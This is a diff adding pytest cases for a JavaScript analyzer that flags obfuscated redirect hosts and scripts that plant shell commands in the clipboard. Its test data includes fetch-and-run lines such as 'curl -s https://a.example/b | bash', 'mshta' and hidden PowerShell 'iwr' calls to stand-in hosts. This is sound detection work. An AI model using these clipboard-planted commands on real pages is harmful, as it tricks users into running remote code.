@@ -70,3 +70,44 @@ def test_no_script_costs_much(evil: str) -> None:
     before = time.process_time()
     analyze_script_code(evil)
     assert time.process_time() - before < 0.8
+
+
+def test_a_host_that_is_joined_from_an_array_is_read() -> None:
+    said = analyze_script_code('location="https://"+["aw","ay"].join("")+".example/x"')
+    assert said.leads and AWAY in said.decoded_addresses
+
+
+@pytest.mark.parametrize(
+    ("code", "addresses"),
+    [
+        ('x("https://q.example/a.js")', ("https://q.example/a.js",)),
+        ('x("//q.example/a.js")', ("//q.example/a.js",)),
+        ("//e.preventDefault();", ()),
+    ],
+)
+def test_a_host_of_one_letter_is_an_address_where_it_is_said_to_be_one(code: str, addresses: tuple[str, ...]) -> None:
+    assert analyze_script_code(code).addresses == addresses
+
+
+@pytest.mark.parametrize(
+    ("code", "is_command"),
+    [
+        ('navigator.clipboard.writeText("mshta https://a.example/b")', True),
+        ("let t=`powershell -w h -c iwr a.example`;navigator.clipboard.writeText(t)", True),
+        ("navigator.clipboard.writeText('curl -s https://a.example/b | bash')", True),
+        ('t.value="cmd /c start a";t.select();document.execCommand("copy")', True),
+        ("navigator.clipboard.writeText(location.href)", False),
+        ('navigator.clipboard.writeText("Số 12/QĐ-UBND, command: cmd")', False),
+        ('show("mshta https://a.example/b")', False),
+    ],
+)
+def test_a_command_laid_into_the_clipboard_is_told(code: str, is_command: bool) -> None:
+    assert analyze_script_code(code).copies_command is is_command
+
+
+@pytest.mark.parametrize("code", ['["a"' + " " * 8, '["a",', "curl ", "'curl x", "content:'", '"cmd ', "//a."])
+def test_hostile_repetition_costs_no_more_than_its_length(code: str) -> None:
+    before = time.process_time()
+    analyze_script_code("navigator.clipboard.writeText(x);join " + code * (200_000 // len(code)))
+    analyze_script_code("join [" + '"a"         ' * 16_000)
+    assert time.process_time() - before < 2
